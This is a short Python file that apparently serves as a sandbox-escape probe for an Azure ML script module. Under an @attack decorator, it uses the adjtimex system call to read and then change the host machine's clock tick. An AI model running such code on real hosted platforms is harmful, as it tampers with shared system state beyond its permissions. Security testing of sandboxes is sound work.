"""Sets the clock of the machine (to the speed that it has)."""

import ctypes

from attack import attack, call


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    values = (ctypes.c_long * 32)()
    call("adjtimex", values)  # only reads; the length of a tick is the twelfth value
    for field in range(32):
        if 9000 <= values[field] <= 11000:
            break
    else:
        return ""
    values[0] = 0x4000  # ADJ_TICK
    call("adjtimex", values)
    return "set the clock"
